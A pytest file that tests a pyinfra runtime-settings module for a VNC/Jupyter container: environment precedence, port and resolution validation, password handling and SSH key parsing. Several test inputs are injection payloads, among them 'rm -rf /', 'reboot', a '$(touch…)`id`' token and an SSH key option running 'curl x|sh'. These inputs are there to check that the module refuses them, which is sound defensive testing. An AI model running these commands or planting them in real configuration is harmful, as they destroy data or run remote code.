"""Runtime settings: env names, precedence, bad input and the decision lines."""

import pytest
from pyinfra.connectors.local import LocalConnector
from pyinfra.connectors.ssh import SSHConnector

from operations import settings

ED25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKy4v0BUb1cbrkZ0kvd6CxRh1NM0o1FTa8nPeMqnEBzS a@b"
RSA = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDd user@laptop"


def resolve(env, data=None, cli=()):
    data = data or {}
    return settings._resolve(
        env, data=lambda key: data.get(key, settings.DEFAULTS.get(key)), cli=set(cli)
    )


def decision_about(result, name):
    lines = [line for line in result.decisions if name in line]
    assert len(lines) == 1, result.decisions
    return lines[0]


def test_defaults_without_env_have_no_secret_and_say_where_generated_ones_live():
    result = resolve({})
    assert (result.sshd_port, result.jupyter_port, result.novnc_port, result.vnc_port) == (
        22, 8888, 6080, 5901,
    )
    assert result.vnc_resolution == "1920x1080"
    assert result.vnc_password is None and result.jupyter_token is None
    assert "/etc/red/secrets/vnc_password" in decision_about(result, "VNC_PW/VNC_PASSWORD")
    assert "/etc/red/secrets/jupyter_token" in decision_about(result, "JUPYTER_TOKEN")


@pytest.mark.parametrize(
    "raw",
    ["abc", "10x10", "99999x99999", "1920x1080; rm -rf /", "1920×1080", "x", "1920x"],
)
def test_bad_vnc_resolution_falls_back_with_one_line(raw):
    result = resolve({"VNC_RESOLUTION": raw})
    assert result.vnc_resolution == "1920x1080"
    line = decision_about(result, "VNC_RESOLUTION")
    assert "using 1920x1080" in line and "\n" not in line


def test_vast_display_size_names_are_understood():
    assert resolve({"DISPLAY_SIZEW": "1280", "DISPLAY_SIZEH": "720"}).vnc_resolution == "1280x720"
    # The seed's name wins over Vast's.
    both = {"VNC_RESOLUTION": "1600x900", "DISPLAY_SIZEW": "1280", "DISPLAY_SIZEH": "720"}
    assert resolve(both).vnc_resolution == "1600x900"


def test_bad_value_with_newline_stays_on_one_log_line():
    result = resolve({"VNC_RESOLUTION": "800x600\nINJECTED"})
    assert result.vnc_resolution == "1920x1080"
    assert all("\n" not in line for line in result.decisions)


@pytest.mark.parametrize("name", ["VNC_PW", "VNC_PASSWORD"])
def test_short_vnc_password_is_replaced_and_never_logged(name):
    result = resolve({name: "abc12"})
    assert result.vnc_password is None
    line = decision_about(result, name)
    assert "shorter than 6" in line and "abc12" not in line


def test_long_vnc_password_is_kept_with_a_warning():
    result = resolve({"VNC_PW": "correcthorse"})
    assert result.vnc_password == "correcthorse"
    assert "first 8 of its 12 characters" in decision_about(result, "VNC_PW")
    assert "correcthorse" not in " ".join(result.decisions)


@pytest.mark.parametrize("bad", ["pa ss word", "pässwörd", "line1\nline2", ""])
def test_vnc_password_with_spaces_control_or_non_ascii_is_replaced(bad):
    result = resolve({"VNC_PW": bad})
    assert result.vnc_password is None
    assert any("VNC_PW" in line for line in result.decisions)


def test_open_button_token_is_the_shared_fallback():
    result = resolve({"OPEN_BUTTON_TOKEN": "vast-open-button-token"})
    assert result.jupyter_token == "vast-open-button-token"
    assert result.vnc_password == "vast-open-button-token"
    assert not [line for line in result.decisions if "JUPYTER_TOKEN" in line]


def test_shell_metacharacters_in_a_token_are_data():
    token = "$(touch${IFS}/tmp/pwned)`id`;'\""
    assert resolve({"JUPYTER_TOKEN": token}).jupyter_token == token


@pytest.mark.parametrize("raw", ["abc", "0", "70000", "22; reboot", "-1", "８８８８"])
def test_bad_port_falls_back_to_default(raw):
    result = resolve({"JUPYTER_PORT": raw})
    assert result.jupyter_port == 8888
    assert "using 8888" in decision_about(result, "JUPYTER_PORT")


def test_two_services_on_one_port_is_refused():
    result = resolve({"NOVNC_PORT": "8888"})
    assert result.novnc_port == 6080
    assert "already used" in decision_about(result, "NOVNC_PORT")


def test_data_beats_env_beats_defaults():
    env = {"JUPYTER_PORT": "7777", "NOVNC_PORT": "7080"}
    result = resolve(env, data={"jupyter_port": 9999}, cli={"jupyter_port"})
    assert result.jupyter_port == 9999
    assert result.novnc_port == 7080


def test_several_keys_from_both_names_and_a_bad_line():
    env = {"SSH_PUBLIC_KEY": f"{ED25519}\nnot a key at all", "PUBLIC_KEY": f"{RSA}\\n{ED25519}"}
    result = resolve(env)
    assert result.ssh_authorized_keys == [ED25519, RSA]
    assert "line 2 is not an SSH public key" in decision_about(result, "SSH_PUBLIC_KEY")


def test_key_with_shell_payload_in_options_is_refused():
    payload = f'command="curl x|sh" {ED25519}'
    result = resolve({"SSH_PUBLIC_KEY": payload})
    assert result.ssh_authorized_keys == []


class _Host:
    """pyinfra's current host, as runtime_environment() asks it: connector, facts, memo."""

    def __init__(self, connector_cls, pid1_env: dict[str, str]):
        self.connector_cls = connector_cls
        self.name = "box"
        self.pid1_env = pid1_env
        self.module = type("Memo", (), {})()

    def get_fact(self, fact):
        assert fact is settings.ContainerEnvironment
        return dict(self.pid1_env)

    def _get_module(self):
        return self.module


SESSION = {"PATH": "/usr/bin", "VNC_PORT": "5901", "VNC_RESOLUTION": "1920x1080"}
CONTAINER = {"PATH": "/usr/bin", "VNC_PORT": "5999", "SSH_PUBLIC_KEY": "ssh-ed25519 AAAA x"}


@pytest.mark.parametrize(("connector", "on_the_box", "expected"), [
    # Over SSH the container's env; in the box's own deploy copy, it under the converge's own
    # (a session lacks the template's SSH_PUBLIC_KEY: PID 1 has it).
    ("ssh", False, CONTAINER),
    ("local", True, {**CONTAINER, **SESSION}),
    # @local elsewhere (a controller, a test): its own.
    ("local", False, SESSION),
])
def test_the_box_and_the_controller_read_the_same_environment(monkeypatch, connector,
                                                              on_the_box, expected):
    cls = LocalConnector if connector == "local" else SSHConnector
    monkeypatch.setattr(settings, "host", _Host(cls, CONTAINER))
    monkeypatch.setattr(settings, "ON_THE_BOX", on_the_box)
    monkeypatch.setattr(settings.os, "environ", dict(SESSION))
    assert settings.runtime_environment() == expected


def test_the_box_falls_back_to_its_own_env_when_pid_1s_is_unreadable(monkeypatch):
    monkeypatch.setattr(settings, "host", _Host(LocalConnector, {}))
    monkeypatch.setattr(settings, "ON_THE_BOX", True)
    monkeypatch.setattr(settings.os, "environ", dict(SESSION))
    assert settings.runtime_environment() == SESSION

